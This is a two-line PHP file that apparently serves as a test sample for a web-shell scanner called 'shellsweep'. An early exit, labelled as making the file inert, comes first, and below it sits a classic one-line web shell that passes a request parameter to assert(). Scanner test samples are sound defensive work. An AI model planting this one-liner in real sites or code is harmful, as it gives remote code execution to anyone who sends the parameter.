<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?PHP  @Assert ( $_REQUEST[ "pass" ] ) ; ?>
